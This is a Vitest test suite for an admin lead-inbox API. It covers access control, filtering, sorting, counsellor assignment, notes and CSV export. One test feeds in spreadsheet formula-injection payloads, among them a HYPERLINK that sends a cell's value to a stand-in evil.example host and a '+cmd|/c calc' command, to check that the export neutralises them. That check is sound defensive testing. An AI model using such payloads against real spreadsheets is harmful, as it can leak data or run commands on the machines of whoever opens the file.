import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { LEAD_STATUSES, type LeadDetail, type LeadInboxPage } from '@meridian/domain/lead/inbox';
import { createTestApp, type TestApp } from './helper.ts';
import { demoUser, createUser, type TestUser } from './profile-fixtures.ts';
import { enquiry, leadView, postEnquiry } from './lead-fixtures.ts';
import { expectGuarded } from './guard-checks.ts';

let t: TestApp;
let counsellor: TestUser;
let secondCounsellor: TestUser;
let learner: TestUser;

beforeAll(async () => {
  t = await createTestApp();
  counsellor = await demoUser(t, '+919000000201');
  secondCounsellor = await demoUser(t, '+919000000202');
  learner = await createUser(t, { fullName: 'Ananya Rao' });
});

afterAll(async () => {
  await t.close();
});

function asCounsellor(url: string, query: Record<string, string> = {}) {
  return t.app.inject({ method: 'GET', url, query, headers: { authorization: counsellor.authorization } });
}

async function inbox(query: Record<string, string> = {}): Promise<LeadInboxPage> {
  const res = await asCounsellor('/lead/admin/leads', query);
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}

describe('every /lead/admin route', () => {
  const adminRoutes = () => t.app.routeTable.filter((route) => route.url.startsWith('/lead/admin/'));

  it('refuses anonymous callers (401), learners and content editors (403)', async () => {
    const editor = await createUser(t, { fullName: 'Kabir Shah', permissions: ['cms_editor'] });
    expect(adminRoutes().length).toBeGreaterThanOrEqual(6);
    const routes = adminRoutes().map((route) => ({
      method: route.method,
      url: route.url.replace(':leadId', '00000000-0000-4000-8000-000000000001'),
    }));
    await expectGuarded(t, routes, [learner, editor]);
  });
});

describe('the lead inbox', () => {
  it('lists the seeded enquiries newest first, 20 a page, with the pagination contract', async () => {
    const page = await inbox();
    expect(page).toMatchObject({ page: 1, size: 20 });
    expect(page.total).toBeGreaterThanOrEqual(5);
    const times = page.items.map((lead) => lead.createdAt);
    expect(times).toEqual([...times].sort().reverse());
    expect((await inbox({ page: '2', size: '2' })).items).toHaveLength(2);
  });

  it('filters by destination, level, city, verified, status, source, UTM and date', async () => {
    const names = async (query: Record<string, string>) => (await inbox(query)).items.map((l) => l.name);
    expect(await names({ destination: 'germany', q: 'Kulkarni' })).toEqual(['Sneha Kulkarni']);
    expect(await names({ level: 'BACHELORS', city: 'hyderabad' })).toEqual(['Farhan Qureshi']);
    expect(await names({ verified: 'false', q: 'Menon' })).toEqual(['Aditya Menon']);
    expect(await names({ verified: 'true', q: 'Menon' })).toEqual([]);
    expect(await names({ source: 'brochure' })).toEqual(['Ishita Banerjee']);
    expect(await names({ utmCampaign: 'australia-feb-intake' })).toEqual(['Karan Malhotra']);
    expect(await names({ utmSource: 'google', utmMedium: 'cpc' })).toEqual(['Sneha Kulkarni']);
    const today = new Date().toISOString().slice(0, 10);
    expect(await names({ from: today, q: 'Kulkarni' })).toEqual([]);
    expect(await names({ to: today, q: 'Kulkarni' })).toEqual(['Sneha Kulkarni']);
    expect((await asCounsellor('/lead/admin/leads', { from: today, to: '2020-01-01' })).statusCode).toBe(400);
    expect((await asCounsellor('/lead/admin/leads', { status: 'sleeping' })).statusCode).toBe(400);
  });

  it('sorts by name, city or status either way, across pages, and refuses a column it cannot sort by', async () => {
    const all = async (sort: string) => {
      const first = await inbox({ sort, size: '100' });
      return first.items;
    };
    const byName = (await all('name')).map((lead) => lead.name.toLowerCase());
    expect(byName).toEqual([...byName].sort());
    const byNameDown = (await all('-name')).map((lead) => lead.name.toLowerCase());
    expect(byNameDown).toEqual([...byName].reverse());
    // Pages follow the same order: page 2 of 2 starts where page 1 stopped.
    const [first, second] = [
      await inbox({ sort: 'name', size: '2' }),
      await inbox({ sort: 'name', page: '2', size: '2' }),
    ];
    expect([...first.items, ...second.items].map((lead) => lead.name.toLowerCase())).toEqual(
      byName.slice(0, 4),
    );
    const statuses = (await all('-status')).map((lead) => LEAD_STATUSES.indexOf(lead.status));
    expect(statuses).toEqual([...statuses].sort((a, b) => b - a));
    const cities = (await all('city')).map((lead) => lead.city);
    const named = cities.filter((city) => city !== null).map((city) => city.toLowerCase());
    expect(named).toEqual([...named].sort());
    expect(cities.slice(named.length).every((city) => city === null)).toBe(true);
    expect((await asCounsellor('/lead/admin/leads', { sort: 'email' })).statusCode).toBe(400);
  });

  it('hands new leads round-robin to the counsellors of their destination', async () => {
    const ids: string[] = [];
    for (let i = 0; i < 4; i += 1) {
      const res = await postEnquiry(t.app, enquiry({ interestedCountries: ['ireland'] }));
      ids.push(res.json().leadId);
    }
    const owners = await Promise.all(
      ids.map(
        async (id) => ((await asCounsellor(`/lead/admin/leads/${id}`)).json() as LeadDetail).assignedTo?.id,
      ),
    );
    // Both desks cover Ireland: the turns alternate.
    expect(new Set(owners)).toEqual(new Set([counsellor.id, secondCounsellor.id]));
    expect(owners[0]).not.toBe(owners[1]);
    expect(owners[1]).not.toBe(owners[2]);
    // Only Meera's desk covers Germany.
    const german = await postEnquiry(t.app, enquiry({ interestedCountries: ['germany'] }));
    const detail: LeadDetail = (await asCounsellor(`/lead/admin/leads/${german.json().leadId}`)).json();
    expect(detail.assignedTo).toEqual({ id: secondCounsellor.id, fullName: 'Meera Pillai' });
  });

  it('shows a lead with its touchpoints, attribution and contact preferences; assigns it; moves its status with a note', async () => {
    const payload = enquiry({
      interestedCountries: ['uk'],
      extraFields: { utm_source: 'google', utm_campaign: 'uk-jan' },
    });
    const leadId: string = (await postEnquiry(t.app, payload)).json().leadId;
    const detail: LeadDetail = (await asCounsellor(`/lead/admin/leads/${leadId}`)).json();
    expect(detail.status).toBe('new');
    expect(detail.attribution).toMatchObject({ utm_source: 'google', utm_campaign: 'uk-jan' });
    expect(detail.touchpoints).toHaveLength(1);
    expect(detail.contactPreferences.map((p) => p.kind)).toEqual(['mobile', 'email']);

    const put = (counsellorId: string | null) =>
      t.app.inject({
        method: 'PUT',
        url: `/lead/admin/leads/${leadId}/assignment`,
        headers: { authorization: counsellor.authorization },
        payload: { counsellorId },
      });
    expect(((await put(secondCounsellor.id)).json() as LeadDetail).assignedTo?.fullName).toBe('Meera Pillai');
    expect((await put(learner.id)).statusCode).toBe(400);
    expect(((await put(null)).json() as LeadDetail).assignedTo).toBeNull();
    expect((await inbox({ assignedTo: 'none', q: payload.email! })).total).toBe(1);

    const noted = await t.app.inject({
      method: 'POST',
      url: `/lead/admin/leads/${leadId}/notes`,
      headers: { authorization: counsellor.authorization },
      payload: {
        status: 'contacted',
        notes: 'Called; wants a January intake in Manchester.',
        studyAbroad: true,
      },
    });
    expect(noted.statusCode, noted.body).toBe(200);
    const after: LeadDetail = noted.json();
    expect(after.status).toBe('contacted');
    expect(after.notes[0]).toMatchObject({ author: 'Kavya Iyer', status: 'contacted' });
    expect((await inbox({ status: 'contacted', q: payload.email! })).total).toBe(1);

    const empty = await t.app.inject({
      method: 'POST',
      url: `/lead/admin/leads/${leadId}/notes`,
      headers: { authorization: counsellor.authorization },
      payload: { status: 'qualified', notes: '' },
    });
    expect(empty.statusCode).toBe(400);
    expect(((await asCounsellor(`/lead/admin/leads/${leadId}`)).json() as LeadDetail).status).toBe(
      'contacted',
    );
  });

  it('exports the filtered leads as CSV', async () => {
    const res = await asCounsellor('/lead/admin/leads.csv', { destination: 'germany', q: 'Kulkarni' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('leads.csv');
    const rows = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      expect.objectContaining({
        name: 'Sneha Kulkarni',
        // A leading + would make a spreadsheet read the number as a formula.
        mobile: "'+919000000501",
        interested_countries: 'Germany',
        verified: 'yes',
        status: 'new',
        utm_campaign: 'germany-masters',
      }),
    ]);
    const all = parse((await asCounsellor('/lead/admin/leads.csv')).body, { columns: true }) as unknown[];
    expect(all.length).toBe((await inbox()).total);
  });

  it('exports a visitor’s formula-like values as text, so a spreadsheet never runs them', async () => {
    const formulas = {
      utm_source: '=HYPERLINK("https://evil.example/?x="&A2,"Open")',
      utm_medium: '+cmd|/c calc!A0',
      utm_campaign: '@SUM(1+1)',
    };
    const payload = enquiry({ extraFields: formulas });
    expect((await postEnquiry(t.app, payload)).statusCode).toBe(200);
    const res = await asCounsellor('/lead/admin/leads.csv', { q: payload.email! });
    const [row] = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      utm_source: `'${formulas.utm_source}`,
      utm_medium: `'${formulas.utm_medium}`,
      utm_campaign: `'${formulas.utm_campaign}`,
    });
  });

  it('records the form and version of each enquiry, lists, filters and exports the lead by it', async () => {
    const payload = enquiry({ name: 'Meera Pillai', formId: 'popform-v2', source: 'popform' });
    const sent = await postEnquiry(t.app, payload);
    expect(sent.statusCode, sent.body).toBe(200);
    const { leadId } = sent.json() as { leadId: string };
    // The optional second step of another form joins the lead; the lead keeps the form that won it.
    expect((await postEnquiry(t.app, { ...payload, formId: 'enquiry3-v1' })).statusCode).toBe(200);
    expect((await leadView(t.app, leadId)).touchpoints.map((touch) => touch.formId)).toEqual([
      'popform-v2',
      'enquiry3-v1',
    ]);

    const [row] = (await inbox({ q: payload.email! })).items;
    expect(row).toMatchObject({ id: leadId, formId: 'popform-v2' });
    expect((await inbox({ form: 'popform-v2' })).items.map((lead) => lead.id)).toContain(leadId);
    expect((await inbox({ form: 'enquiry3-v1' })).items.map((lead) => lead.id)).not.toContain(leadId);
    // Leads from before forms said which they were have none.
    expect((await inbox({ q: 'Kulkarni' })).items[0]).toMatchObject({ formId: null });

    const csv = await asCounsellor('/lead/admin/leads.csv', { form: 'popform-v2' });
    const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
    expect(rows).toContainEqual(expect.objectContaining({ id: leadId, form_id: 'popform-v2' }));
  });

  it('refuses a form identifier it does not know, naming the current ones', async () => {
    const res = await postEnquiry(t.app, enquiry({ formId: 'popform-v9' }));
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ field: 'body.formId' });
    expect(res.json().detail).toContain('popform-v2');
  });
});
